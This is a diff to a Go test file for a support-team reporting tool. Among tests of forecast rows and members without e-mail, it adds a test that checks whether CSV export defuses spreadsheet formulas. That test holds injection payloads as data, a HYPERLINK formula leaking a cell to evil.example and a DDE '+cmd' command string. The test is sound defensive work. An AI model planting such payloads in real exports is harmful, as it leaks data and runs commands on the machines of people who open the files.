@@ -20,6 +20,7 @@ import (
 	"bytes"
 	"encoding/json"
 	"flag"
+	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
@@ -443,4 +444,79 @@ func TestBuildClocksForwardAtMidnight(t *testing.T) {
 			}
 		})
 	}
+}
+
+// TestCSVDefusesFormulas: names come from RT and the spec, where anyone
+// who opens a ticket or names a user writes them; a cell a spreadsheet
+// would run as a formula gets a leading ', numbers (negative too) stay.
+func TestCSVDefusesFormulas(t *testing.T) {
+	r, err := Build(weekInput(t))
+	if err != nil {
+		t.Fatal(err)
+	}
+	r.Team = "=HYPERLINK(\"https://evil.example/\"&A1)"
+	r.Members = append(r.Members, MemberFigures{Name: "@SUM(1+1)", RTUser: "+cmd|' /C calc'!A0", Resolved: 2},
+		MemberFigures{Name: "-2", RTUser: "\tx"})
+	var out bytes.Buffer
+	if err := r.WriteCSV(&out); err != nil {
+		t.Fatal(err)
+	}
+	text := out.String()
+	for _, want := range []string{
+		`period,,,,,team,"'=HYPERLINK(""https://evil.example/""&A1)"`,
+		"member,,,,'@SUM(1+1),rt_user,'+cmd|' /C calc'!A0",
+		"member,,,,'@SUM(1+1),resolved,2",
+		"member,,,,-2,rt_user,'\tx",
+	} {
+		if !strings.Contains(text, want+"\n") {
+			t.Errorf("the CSV lacks the row %q", want)
+		}
+	}
+	for _, c := range []struct{ in, want string }{{"-1.5", "-1.5"}, {"=1", "'=1"}, {"+1", "+1"}, {"a=b", "a=b"}, {"", ""}, {"\rx", "'\rx"}} {
+		if got := cell(c.in); got != c.want {
+			t.Errorf("cell(%q) = %q, want %q", c.in, got, c.want)
+		}
+	}
+}
+
+// TestCSVHourForecast: the hour rows carry the forecast JSON's hours[]
+// has (the declared demand of the half-hours starting in that hour).
+func TestCSVHourForecast(t *testing.T) {
+	r, err := Build(weekInput(t))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var out bytes.Buffer
+	if err := r.WriteCSV(&out); err != nil {
+		t.Fatal(err)
+	}
+	for _, h := range r.Hours {
+		row := fmt.Sprintf("hour,,%02d:00,,,forecast,%s\n", h.Hour, num(h.Forecast))
+		if !strings.Contains(out.String(), row) {
+			t.Errorf("the CSV lacks %q", row)
+		}
+	}
+	if r.Hours[9].Forecast == 0 {
+		t.Error("09:00 has no forecast: the test checks nothing")
+	}
+}
+
+// TestMembersWithoutEmail: a member the spec gives no e-mail cannot be
+// matched to an RT user, but is listed, with zeros, rather than missing.
+func TestMembersWithoutEmail(t *testing.T) {
+	in := weekInput(t)
+	in.NoEmail = []string{"eve"}
+	r, err := Build(in)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, m := range r.Members {
+		if m.Name == "eve" {
+			if !m.Member || m.RTUser != "" || m.Resolved != 0 || m.Answered != 0 {
+				t.Errorf("eve: %+v, want a member with no RT user and zeros", m)
+			}
+			return
+		}
+	}
+	t.Errorf("eve is not in the members: %+v", r.Members)
 }
